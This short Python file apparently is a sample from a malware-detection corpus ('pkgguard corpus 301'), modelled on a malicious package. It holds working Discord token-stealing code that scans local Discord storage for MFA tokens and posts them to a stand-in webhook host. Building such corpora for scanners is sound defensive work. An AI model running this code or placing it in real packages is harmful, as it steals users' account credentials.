# pkgguard corpus 301 (discord-token), modelled on [discordpydebug]; inert, never run.
import json
import os
import re
import urllib.request

base = os.path.join(os.getenv("APPDATA", ""), "discordptb", "Local Storage", "leveldb")
found = []
for name in os.listdir(base) if os.path.isdir(base) else []:
    with open(os.path.join(base, name), "r", errors="ignore") as f:
        found += re.findall(r"mfa\.[\w-]{84}", f.read())
req = urllib.request.Request(
    "https://hooks.example/d", data=json.dumps(found).encode(), headers={"Content-Type": "application/json"}
)
urllib.request.urlopen(req)
